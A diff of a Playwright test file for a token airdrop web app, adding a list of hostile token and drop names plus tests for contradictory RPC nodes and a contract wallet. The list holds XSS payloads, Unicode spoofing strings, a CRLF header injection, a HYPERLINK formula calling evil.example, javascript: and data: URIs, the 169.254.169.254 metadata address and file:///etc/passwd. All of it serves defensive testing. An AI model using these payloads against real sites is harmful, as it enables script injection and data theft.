@@ -1,7 +1,18 @@
 import AxeBuilder from '@axe-core/playwright'
-import { erc1155Abi, erc20Abi, erc721Abi, getAddress } from 'viem'
+import { encodeAbiParameters, erc1155Abi, erc20Abi, erc721Abi, getAddress, toFunctionSelector } from 'viem'
+import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
 import { expect, test } from '../fixtures/app.ts'
 import { publishDrop, servePublicFiles } from '../fixtures/publicDrop.ts'
+
+interface RpcRequest {
+  readonly id: number
+  readonly method: string
+  readonly params?: readonly { readonly data?: string }[]
+}
+interface RpcAnswer {
+  readonly id: number
+  readonly result?: unknown
+}
 
 const other = getAddress('0x00000000000000000000000000000000000b0bb1')
 const third = getAddress('0x00000000000000000000000000000000000c0ffe')
@@ -115,19 +126,148 @@ test.describe('checking an address', () => {
     await expect(page.getByText('The sender cancelled this drop')).toBeVisible()
   })
 
-  test('names of hostile tokens and titles are text and nothing else', async ({ page, chain }) => {
-    const { manifest, path } = await publishDrop(chain, [other, third], {
-      title: '<img src=x onerror="window.hacked=1"> \u202eevil',
-      symbol: '<script>window.hacked=1</script>',
-    })
-    await servePublicFiles(page, manifest)
-    await page.goto(`${path}?address=${other}`)
-    await expect(page.getByText('You can claim')).toBeVisible()
-    await expect(page.getByText('<img src=x onerror=')).toBeVisible()
-    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
-    expect(await page.locator('main img').count()).toBe(0)
-    expect(await page.locator('main').innerText()).not.toContain('\u202e')
+  /** What a stranger may write as the name of a token or a drop: scripts, markup, templates, turned text, endless text, links. */
+  const hostile = [
+    '<script>window.__xss=1</script>',
+    '<img src=x onerror=window.__xss=1>',
+    '"><svg/onload=window.__xss=1>',
+    "{{constructor.constructor('window.__xss=1')()}}",
+    '${window.__xss=1}',
+    '</title><script>window.__xss=1</script>',
+    '\u2028\u2029window.__xss=1',
+    'USDC\u202e\u2066\u2069 fake',
+    'USD\u0421',
+    '\u200bUSDC\u200b',
+    `U${'\u0300'.repeat(150)}S`,
+    'A'.repeat(5_000),
+    'Visit https://claim-airdrop.example to receive 1000 USDC',
+    '\u0000\u0001\u001b[31mred',
+    '\r\nSet-Cookie: a=b',
+    '=HYPERLINK("http://evil.example?x="&A1,"x")',
+    'javascript:window.__xss=1',
+    'data:text/html,<script>parent.__xss=1</script>',
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=1'/>",
+    'http://169.254.169.254/latest/meta-data/',
+    'file:///etc/passwd',
+    'https://user:pass@evil.example/a.png',
+    '__proto__',
+    'vitalik\u200d.eth',
+  ]
+
+  test('W5: hostile names of tokens and drops are text and nothing else, or can’t be sealed at all', async ({
+    page,
+    chain,
+  }) => {
+    await page.setViewportSize({ width: 320, height: 800 })
+    let shown = 0
+    for (const name of hostile) {
+      const made = await publishDrop(chain, [other, third], { title: name, symbol: name, isOnChain: false }).catch(
+        (error: Error) => error,
+      )
+      if (made instanceof Error) {
+        expect(made.message).toMatch(/title|symbol|name/i)
+        continue
+      }
+      shown += 1
+      await page.unrouteAll()
+      await servePublicFiles(page, made.manifest)
+      await page.goto(`${made.path}?address=${other}`)
+      await expect(page.getByRole('complementary', { name: 'Your row' })).toBeVisible()
+      expect(await page.evaluate(() => '__xss' in window)).toBe(false)
+      const main = page.locator('main')
+      expect(await main.locator('img, iframe, object, script').count()).toBe(0)
+      expect(await main.innerText()).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
+      // Nothing in a name becomes a link.
+      const hrefs = await main.getByRole('link').evaluateAll((links) => links.map((link) => link.getAttribute('href')))
+      expect(hrefs.filter((href) => /evil|169\.254|claim-airdrop|^(javascript|data|file):/.test(href ?? ''))).toEqual(
+        [],
+      )
+      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
+      await expect(page.getByText(`${made.manifest.terms.sender.slice(0, 6)}`).first()).toBeVisible()
+    }
+    expect(shown).toBeGreaterThan(10)
   })
+})
+
+test.describe('nodes that can’t be believed', () => {
+  test('a node of another network is not asked for anything', async ({ page, chain }) => {
+    const { manifest, path } = await publishDrop(chain, [other, third])
+    await servePublicFiles(page, manifest)
+    await page.route(`${chain.rpcUrl}/**`, async (route) => {
+      const body = route.request().postDataJSON() as RpcRequest | RpcRequest[]
+      const response = await route.fetch()
+      const answers = (await response.json()) as RpcAnswer | RpcAnswer[]
+      const change = (request: RpcRequest, answer: RpcAnswer) =>
+        request.method === 'eth_chainId' ? { ...answer, result: '0x1' } : answer
+      const changed =
+        Array.isArray(body) && Array.isArray(answers)
+          ? answers.map((answer) => change(body.find(({ id }) => id === answer.id) ?? { id: 0, method: '' }, answer))
+          : change(body as RpcRequest, answers as RpcAnswer)
+      await route.fulfill({ json: changed })
+    })
+    await page.goto(`${path}?address=${other}`)
+    await expect(page.getByText('The node answers for another network than the drop’s.')).toBeVisible()
+    await expect(page.getByRole('button', { name: /^Claim/ })).toHaveCount(0)
+  })
+
+  test('two nodes that contradict each other: neither is believed, and nothing can be claimed', async ({
+    page,
+    chain,
+  }) => {
+    const { manifest, path } = await publishDrop(chain, [other, third])
+    await servePublicFiles(page, manifest)
+    const second = `${chain.rpcUrl}/second`
+    await page.route('**/api/config', async (route) => {
+      const config = (await (await route.fetch()).json()) as { chains: { rpcUrls: string[] }[] }
+      await route.fulfill({
+        json: { ...config, chains: config.chains.map((each) => ({ ...each, rpcUrls: [...each.rpcUrls, second] })) },
+      })
+    })
+    // Tells of every word that all of it is paid.
+    const settled = toFunctionSelector('settled(bytes32,uint256,uint256)')
+    const lie = encodeAbiParameters([{ type: 'uint256[]' }], [[3n]])
+    await page.route(second, async (route) => {
+      const request = route.request().postDataJSON() as RpcRequest
+      if (request.method === 'eth_call' && request.params?.[0]?.data?.startsWith(settled))
+        return route.fulfill({ json: { jsonrpc: '2.0', id: request.id, result: lie } })
+      const response = await page.request.post(chain.rpcUrl, { data: request })
+      return route.fulfill({ json: await response.json() })
+    })
+    await page.goto(`${path}?address=${other}`)
+    await expect(page.getByText(/Two nodes|nodes .*(disagree|contradict|differ)/i).first()).toBeVisible()
+    await expect(page.getByRole('button', { name: /^Claim/ })).toHaveCount(0)
+  })
+})
+
+test('an account that is a contract claims its row by itself, and sends it to another of its addresses', async ({
+  page,
+  chain,
+  wallet,
+}) => {
+  // Calls what its owner hands it: 20 bytes of target, then the data.
+  const account = privateKeyToAccount(generatePrivateKey()).address
+  await chain.client.setCode({
+    address: account,
+    bytecode: '0x601436038060145f375f5f825f345f3560601c5af13d5f5f3e601f573d5ffd5b3d5ff3',
+  })
+  await chain.client.setBalance({ address: wallet.account.address, value: 10n ** 20n })
+  wallet.actThrough(account)
+  const { manifest, path } = await publishDrop(chain, [account, other, third])
+  await servePublicFiles(page, manifest)
+  const treasury = privateKeyToAccount(generatePrivateKey()).address
+  await page.goto(`${path}?address=${account}`)
+  await page.getByRole('button', { name: /^Claim/ }).click()
+  await page
+    .getByTestId(/rk-wallet-option-/)
+    .filter({ hasText: 'Test wallet' })
+    .click()
+  await page.getByText('Send it to another of your addresses').click()
+  await page.getByRole('textbox', { name: /Only the wallet of the row can choose this/ }).fill(treasury)
+  await page.getByRole('button', { name: /^Claim on/ }).click()
+  await expect(page.getByText('Claimed.')).toBeVisible()
+  const row = [0, 1, 2].map((place) => manifest.rowAt(place)).find((each) => each.account === account)
+  expect(await chain.balanceOf('MERI', treasury)).toBe(row?.amount)
+  expect(await chain.balanceOf('MERI', account)).toBe(0n)
 })
 
 for (const standard of ['ERC20', 'ERC721', 'ERC1155'] as const)
